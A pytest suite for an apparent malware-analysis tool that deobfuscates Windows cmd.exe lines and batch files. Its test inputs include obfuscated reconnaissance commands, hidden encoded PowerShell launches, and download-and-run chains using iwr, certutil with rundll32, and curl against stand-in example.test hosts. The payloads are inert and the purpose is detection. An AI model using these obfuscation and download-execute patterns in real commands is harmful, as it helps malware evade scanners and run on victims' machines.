"""What lines of cmd.exe come down to. Expected values are from `cmd /?`, `set /?`, `for /?` and from what cmd.exe prints."""

from __future__ import annotations

import base64
import contextlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from emoscan.budget import Budget, LimitReached, Limits
from emoscan.evaluate.cmd.run import evaluate
from emoscan.evaluate.powershell.run import printed_by
from emoscan.model import Child, Fact

CODE = "Write-Output 'INERT'; exit"
ENCODED = base64.b64encode(CODE.encode("utf-16-le")).decode()


class Outcome:
    def __init__(self, items):
        self.items = items

    def values(self, kind):
        return [item.value for item in self.items if isinstance(item, Fact) and item.kind == kind]

    @property
    def runs(self):
        return self.values("effect.run")

    def children(self, kind):
        return [item.data.decode() for item in self.items if isinstance(item, Child) and item.kind == kind]

    def written(self):
        return {item.label.rpartition("\\")[2]: item.data for item in self.items if isinstance(item, Child) and item.label}


def line(text, *names, limits=None):
    items = []
    evaluate(text, Budget(limits or Limits()), items.append, names)
    return Outcome(items)


def batch(*lines):
    return line("\r\n".join(lines), "a.bat")


def answer(*lines):
    """What a batch file makes of the variable `x` in the end: the argument of a program."""
    ran = batch("@echo off", *lines, "net [%x%]").runs
    return ran[-1][5:-1]


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("n^et^st^at -an", "netstat -an"),
        (",;,(((net,user)))", "net user"),
        ('n""et""stat -an', "netstat -an"),
        ("%COMSPEC:~-7,1%md /c net%ProgramFiles:~2,0% user", "net user"),
        ("cmd cmd cmd cmd /c net user", "net user"),
        ('cmd /v:on/q/d/s/c"net user"', "net user"),
        ('cmd /V /C "set x=nYt uXer&&set z=!x:X=s!&&call %z:Y=e%"', "net user"),
        ('cmd /C "set a=ne&&set b=t us&&set c=er&&call set d=%a%%b%%c%&&call %d%"', "net user"),
        ('cmd /V:ON /C "set x=resu ten&&for /L %a in (7,-1,0) do set y=!y!!x:~%a,1!&&if %a==0 call %y:~-8%"', "net user"),
        ("for /f \"tokens=1 delims==f\" %c in ('ftype ^| findstr dfil') do %c /c net user", "net user"),
        ("for /f \"delims=. tokens=1\" %c in ('assoc .cmd') do net %c", "net cmd=cmdfile"),
        ("for /f \"delims=s\\ tokens=4\" %a in ('set^|findstr PSM')do %a -?", "PowerShell -?"),
        ("nosuch||goto&n^et user", "net user"),
        ("echo net user|cmd", "net user"),
        ("echo net user|%COMSPEC%", "net user"),
        ('start "" /min /b net user', "net user"),
        ("start/b net user", "net user"),
        ("if 1==1 (net user) else (net localgroup)", "net user"),
        ("if not 1==1 (net localgroup) else net user", "net user"),
        ("if /i ABC==abc if 10 GTR 9 if defined TEMP net user", "net user"),
        ("for %a in (user) do @net %a", "net user"),
        ('for %a in ("C:\\x\\user.txt") do net %~na %~xa %~dpa', (r"net user .txt C:\x" "\\")),
        ('forfiles /p c:\\windows /m notepad.exe /c "cmd /c net user"', "net user"),
        ('wmic process call create "cmd /c net user"', "net user"),
        (r'c:\windows\system32\..\system32\cmd.exe /c "net user"', "net user"),
        ("pcalua -a net -c user", "net user"),
        ("cmd /c ^n^e^t user", "net user"),
    ],
)
def test_commands_are_resolved(text, command):
    if command is not None:
        assert line(text).runs[-1] == command


@pytest.mark.parametrize(
    ("lines", "value"),
    [
        (["set x=abc"], "abc"),
        (['set "x=a b" tail'], "a b"),
        (["set a=hello", "set x=%a:~1,3%"], "ell"),
        (["set a=hello", "set x=%a:~-3%"], "llo"),
        (["set a=hello", "set x=%a:~0,-2%"], "hel"),
        (["set a=hello", "set x=%a:L=1%"], "he11o"),
        (["set a=hello", "set x=%a:*l=X%"], "Xlo"),
        (["set a=100%%", "set x=%a%"], "100%"),
        (["set /a x=2+3*4"], "14"),
        (["set /a x=(2+3)*4 %% 7"], "6"),
        (["set /a a=5,x=a^<^<3"], "40"),
        (["set /a x=0x1F ^^ 010"], "23"),
        (["set /a x=~0"], "-1"),
        (["set /a x=7/-2"], "-3"),
        (["set x=1", "set /a x+=5", "set /a x*=2"], "12"),
        (["set x=", "for /l %%i in (1,1,5) do call set x=%%x%%%%i"], "12345"),
        (["setlocal enabledelayedexpansion", "for %%i in (a,b;c d) do set x=!x!%%i"], "abcd"),
        (["(set l=^", "", ")", "set x=after"], "after"),
        (['for %%F in ("curl.exe") do set x=%%~$PATH:F'], r"C:\WINDOWS\System32\curl.exe"),
        (['for /f "tokens=2,4" %%a in ("one two three four") do set x=%%b-%%a'], "four-two"),
        (['for /f "tokens=1*" %%a in ("one two three") do set x=%%b'], "two three"),
        (["for /f \"usebackq delims=,\" %%a in ('p,q') do set x=%%a"], "p"),
        (['for /f "usebackq" %%a in (`echo hi`) do set x=%%a'], "hi"),
        (["goto there", "set x=wrong", ":there", "set x=right"], "right"),
        (["call :sub one two", "goto end", ":sub", "set x=%2%1", "exit /b", ":end"], "twoone"),
        (['call :sub "C:\\f\\g.txt"', "goto end", ":sub", "set x=%~nx1", "goto :eof", ":end"], "g.txt"),
        (["(echo 5)>n.txt", "set /p x=<n.txt"], "5"),
        (["echo a>n.txt", "echo b>>n.txt", "for /f %%l in (n.txt) do set x=%%l"], "b"),
        (["(", "set x=1", "set x=2", ")"], "2"),
        (["set x=1&&set x=2||set x=3"], "2"),
        (["setlocal", "set x=1", "endlocal", "if not defined x set x=gone"], "gone"),
        (["set a=x", "set %a%=ind"], "ind"),
        (["set x=a^", "b"], "ab"),
        (["set x=%undefined%q"], "q"),
        (['ver | find "10.0" >nul && set x=ten'], "ten"),
        (["echo one two | findstr /i TWO >nul", "set x=%errorlevel%"], "0"),
        (["set a=1", "if %a% equ 1 (set x=y) else (set x=n)"], "y"),
        (["set x=%~n0"], "a"),
        (["shift & set x=ok"], "ok"),
        (["set a=b", "set b=deep", "call set x=%%%a%%%"], "deep"),
    ],
)
def test_batch_files(lines, value):
    assert answer(*lines) == value


def test_a_batch_file_reads_itself():
    ran = batch("@echo off", 'for /f "skip=3 delims=" %%a in (%~f0) do set x=%%a', "%x%", "net user")
    assert ran.runs[-1] == "net user"
    ran = batch(
        "@echo off",
        'findstr /b "::P" "%~f0" > %temp%\\o.txt',
        'for /f "tokens=2 delims=P" %%a in (%temp%\\o.txt) do net %%a',
        "exit /b",
        "::Puser",
    )
    assert ran.runs == ["net user"]


OVERLAY = b'L\0\0\0\r\nqZv7 = 1\r\nqZv7: WScript.Echo "inert"\r\nnot this one\r\n'


@pytest.mark.parametrize("pattern", ['"qZv7.*" "Form 2022.lnk"', 'qZv7 "Form 2022.lnk"', '/b /c:"qZv7" *.lnk', '/I "^qzV7" other.lnk'])
def test_lines_that_findstr_takes_out_of_the_shortcut(pattern):
    command = f'cmd /v:on /c find^str {pattern} > "%tmp%\\a.vbs" & "%tmp%\\a.vbs"'
    items = []
    evaluate(command, Budget(Limits()), items.append, files=[("Form 2022.lnk", "windows.lnk", OVERLAY)])
    assert Outcome(items).written()["a.vbs"] == b'qZv7 = 1\r\nqZv7: WScript.Echo "inert"\r\n'


def test_a_file_is_written_and_run():
    ran = line(r"cmd /c echo net user>%TEMP%\a.bat&echo net localgroup>>%TEMP%\a.bat&%TEMP%\a.bat")
    assert ran.runs == [r"C:\Users\tanaka\AppData\Local\Temp\a.bat", "net user", "net localgroup"]
    assert ran.written()["a.bat"] == b"net user\r\nnet localgroup\r\n"


def test_arguments_reach_a_batch_file_that_was_written():
    ran = batch("echo net %%1 %%~2>b.cmd", 'call b.cmd user "x y"')
    assert ran.runs == ['b.cmd user "x y"', "net user x y"]


@pytest.mark.parametrize(
    "text",
    [
        f"powershell -ENCOD {ENCODED}",
        f"cmd cmd cmd /c msg %username% /v hi & P^Ow^er^she^L^L -w hidden -ENCOD   {ENCODED}",
        f'cmd /V:ON/C"set a=power&&set b=shell&&!a!!b! -e {ENCODED}"',
        f'powershell -nop -w hidden -c "{CODE}"',
        f"powershell {CODE}",
        f'cmd /c "echo {CODE} | powershell -"',
        f'cmd /c "echo {CODE}|powershell -NoP -"',
        f'cmd /c "set v={CODE}&&powershell iex $env:v"',
        f'cmd /c "echo {CODE}|clip&&powershell -c iex ([Windows.Clipboard]::GetText())"',
    ],
)
def test_what_powershell_is_given(text):
    assert any(CODE in code.replace("''", "'") for code in line(text).children("script.powershell"))


def test_a_line_for_powershell_keeps_its_pipes():
    ran = line("powershell -c iex (iwr http://files.example.test/a) | out-null")
    assert ran.children("script.powershell") == ["iex (iwr http://files.example.test/a) | out-null"]


def test_a_loop_behind_a_pipe_reads_its_command_twice():
    text = """cmd /c "echo net user|for /f "delims=f tokens=1" %c in ('ftype^^^|find "cm"') do %c" """
    assert line(text).runs[-1] == "net user"


def test_carets_are_counted():
    facts = [f for f in line("p^ow^er^sh^el^l -c exit").items if isinstance(f, Fact) and f.kind == "obfuscation.caret"]
    assert facts == [Fact("obfuscation.caret", "carets inside words", detail={"count": "5"})]


def test_a_script_that_waits_for_ever_goes_on():
    assert batch(":again", 'tasklist | find "x.exe" || goto again', "net user").runs == ["net user"]


@pytest.mark.parametrize(
    "lines",
    [
        (":a", "set x=%x%aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "goto a"),
        ("for /l %%a in (1,0,2) do set x=%%a",),
        (":a", "set /a n+=1", "call :a"),
        ("set x=aaaaaaaa", *("set x=%x%%x%%x%%x%%x%%x%%x%%x%" for _ in range(20))),
    ],
)
def test_limits_hold(lines):
    with pytest.raises(LimitReached):
        line("\r\n".join(lines), "a.bat", limits=Limits(operations=100_000))


@pytest.mark.parametrize(
    "text",
    ["(" * 100_000, "(" * 3_000 + "net user" + ")" * 3_000, '"' * 100_000, "^" * 100_001, "%a" * 50_000, ">a" * 50_000, "a|" * 2_000],
)
def test_long_lines_of_nothing(text):
    with contextlib.suppress(LimitReached):
        line(text, limits=Limits(operations=100_000))


def test_what_was_fetched_and_is_started():
    ran = batch("curl -o %temp%\\a.exe http://files.example.test/a", "net start spooler", "start %temp%\\a.exe /s")
    fetched = [f.detail.get("downloaded", "") for f in ran.items if isinstance(f, Fact) and f.kind == "effect.run"]
    assert fetched == ["", "", "http://files.example.test/a"]


PIECES = st.sampled_from(
    ["cmd /c ", "set x=", "%x%", "!x!", "%x:~1,2%", "for %a in (", ") do ", "if ", "1==1 ", "(", ")", "&", "|", "||", "&&", "^", '"', "\r\n", ">a.bat ",
     "<a.bat ", "goto :a", ":a", "call ", "echo ", "a.bat ", "findstr x ", "%~f0", "/f ", "'", "set /a y=", "1+", "else ", "not ", "start ", "%%a", "*"]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join) | st.text(max_size=100))
def test_anything_ends(text):
    for names in ((), ("a.bat",)):
        with contextlib.suppress(LimitReached):
            line(text, *names, limits=Limits(operations=50_000))


def test_a_loop_that_would_end_with_the_first_file_fetched_shows_every_address():
    ran = batch(
        "@echo off",
        "for %%u in (http://a.example.test/x http://b.example.test/y) do (",
        "certutil -urlcache -split -f %%u %temp%\\a.ocx",
        "if exist %temp%\\a.ocx (rundll32 %temp%\\a.ocx,Start & goto done)",
        ")",
        "net user",
        ":done",
        "net group",
    )
    assert ran.values("effect.download") == ["http://a.example.test/x", "http://b.example.test/y"]
    assert ran.runs[-1] == "net group"
    assert "net user" not in ran.runs


def test_what_is_piped_into_powershell_has_the_variables_it_reads():
    (code,) = line('cmd /c "set a=iwr http://a.example.test/&&echo iex $env:a|powershell -"').children("script.powershell")
    assert code.splitlines() == ["${env:a} = 'iwr http://a.example.test/'", "iex $env:a"]


def test_quotes_around_parameters_of_powershell():
    assert line('powershell "-nop" "-c" "iwr http://a.example.test/"').children("script.powershell") == ["iwr http://a.example.test/"]


def test_the_plain_form_is_what_was_run_line_by_line():
    ran = batch(
        "@echo off",
        "set a=ne",
        "set b=t u",
        "c^md /c %a%%b%ser",
        "for %%i in (1 2) do call set x=%%x%%%%i",
        "if 1==1 (net %x%) else (net no)",
    )
    (plain,) = [item.data.decode() for item in ran.items if isinstance(item, Child) and item.how == "simplified"]
    assert plain.splitlines() == ["net user", "net 12"]


@pytest.mark.parametrize(
    "inner",
    ["powershell -c \"'IN'+'ERT'\"", "powershell Write-Host INERT", "powershell -enc JwBJAE4ARQBSAFQAJwA="],
)
def test_what_powershell_prints_is_read(inner):
    found = []
    evaluate(f"for /f \"delims=\" %i in ('{inner}') do start %i.exe", Budget(Limits()), found.append, powershell=printed_by)
    assert "INERT.exe" in [item.value for item in found if isinstance(item, Fact) and item.kind == "effect.run"]
